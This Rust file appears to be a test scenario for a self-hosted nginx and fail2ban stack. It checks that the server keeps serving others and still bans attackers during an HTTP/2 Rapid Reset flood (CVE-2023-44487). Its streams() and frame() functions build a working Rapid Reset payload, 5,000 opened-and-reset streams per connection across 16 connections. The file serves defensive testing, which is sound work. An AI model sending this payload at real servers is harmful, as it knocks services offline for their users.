//! HTTP/2 streams, opened and reset as fast as they can be sent (CVE-2023-44487).

use anyhow::{Context, Result, ensure};

use crate::client::{Dripped, Raw};
use crate::scenario::{Scenario, Stage};
use crate::stack::{JAIL, MAXRETRY, guess_until_cut, prove_banned};
use crate::testbed::{Break, Fault};

/// Streams on each connection.
const STREAMS: u32 = 5000;

const CONNECTIONS: usize = 16;

/// A frame's type.
const SETTINGS: u8 = 4;

/// HTTP/2 without TLS on the second of the two public ports, so that the scenario needs no
/// certificate; the same server block otherwise.
const HTTP2: (&str, &str) = (
    "etc/nginx/conf.d/zz-scenario.conf",
    "server {\n    listen 443 default_server;\n    http2 on;\n    server_name _;\n    \
     include /etc/nginx/fmd-stack/server.conf;\n}\n",
);

inventory::submit! {
    Scenario {
        name: "rapid-reset",
        proves: "80,000 HTTP/2 streams reset at once: others are served and the jail works on",
        settings: &[HTTP2],
        needs: &[],
        clients: 2,
        run: |stage| Box::pin(run(stage)),
        faults: &[
            Fault {
                name: "no-http2",
                breaks: Break::Replace {
                    file: HTTP2.0,
                    find: "http2 on;",
                    with: "",
                },
                noticed_as: "spoke HTTP/2",
            },
            Fault {
                name: "filter-matches-nothing",
                breaks: Break::Replace {
                    file: "etc/fail2ban/filter.d/fmd-server.conf",
                    find: "failed login attempt",
                    with: "no such message",
                },
                noticed_as: "still get in",
            },
        ],
    }
}

async fn run(stage: &Stage) -> Result<()> {
    let bystander = stage.person("bystander").await?;
    bystander.register("alice").await?;
    let attacker = stage.person("attacker").await?;
    let opening = streams();
    let length = opening.len();
    let raw = Raw {
        address: stage.testbed().server().addresses().v4.into(),
        port: 443,
        connections: CONNECTIONS,
        opening,
        then: Vec::new(),
        every_ms: 1000,
        // Each ends when nginx has had enough of it; an emulated machine needs seconds for 16.
        for_ms: 20_000,
    };
    let (resets, served) = tokio::join!(attacker.drip(raw), async {
        // With the registration no more than nginx lets through at once.
        for _ in 0..MAXRETRY - 1 {
            bystander.log_in("alice").await.context("the bystander")?;
        }
        anyhow::Ok(())
    });
    let resets = resets?;
    served?;
    let spoke = resets.iter().filter(|one| spoke_http2(one)).count();
    ensure!(
        spoke == CONNECTIONS,
        "only {spoke} of {CONNECTIONS} connections spoke HTTP/2"
    );
    let ended = resets.iter().filter(|one| one.closed).count();
    let whole = resets
        .iter()
        .filter(|one| one.sent == length || one.closed)
        .count();
    stage.note(format!("nginx ended {ended} of {CONNECTIONS} connections"));
    ensure!(
        whole == CONNECTIONS,
        "{} connections neither took all streams nor were ended",
        CONNECTIONS - whole
    );
    guess_until_cut(&attacker, MAXRETRY, |_| "alice".to_owned()).await?;
    prove_banned(stage, &attacker, JAIL).await.map(drop)
}

/// Whether the answer begins with a SETTINGS frame.
fn spoke_http2(connection: &Dripped) -> bool {
    connection.first.get(3) == Some(&SETTINGS)
}

/// A connection's bytes: preface, settings, then each stream opened and reset (RFC 9113).
fn streams() -> Vec<u8> {
    // :method GET, :scheme http, :path /, :authority x (RFC 7541, appendix A).
    const HEADERS: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'x'];
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        bytes.extend(frame(1, 0x5, stream, &HEADERS));
        bytes.extend(frame(3, 0, stream, &CANCEL));
    }
    bytes
}

/// A frame of this type, with these flags, on this stream.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
